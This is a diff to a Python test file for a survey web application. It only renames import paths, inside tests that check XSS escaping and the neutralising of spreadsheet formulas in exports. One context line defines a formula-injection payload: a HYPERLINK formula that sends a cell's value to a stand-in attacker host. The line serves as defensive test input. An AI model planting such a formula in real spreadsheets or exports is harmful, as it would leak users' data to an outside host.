@@ -11,8 +11,8 @@ import pytest
 from litestar.testing import AsyncTestClient
 
 from api_support import SYSTEM, seed_round, token_for
-from survey_engine.auth import service as auth_service
-from survey_engine.auth.tables import User
+from survey_engine.services import users as auth_service
+from survey_engine.store.auth_tables import User
 from survey_engine.services import responses
 from survey_engine.web import create_app
 
@@ -147,7 +147,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
 async def test_xss_payloads_are_data_in_json_and_escaped_in_html(db):
     """The API returns user text as JSON data (never HTML); where it is shown as HTML
     (the survey page shows the comment, the report the unit's name) it is escaped."""
-    from survey_engine.reporting import service as reports
+    from survey_engine.services import reports
 
     ctx = await seed_round(("a", "b"))
     admin = await token_for("admin")
@@ -177,7 +177,7 @@ async def test_xss_payloads_are_data_in_json_and_escaped_in_html(db):
 
 
 async def test_formula_in_an_exported_cell_is_neutralised(db):
-    from survey_engine.reporting import service as reports
+    from survey_engine.services import reports
 
     ctx = await seed_round(("a", "b"))
     admin = await token_for("admin", username="adm")
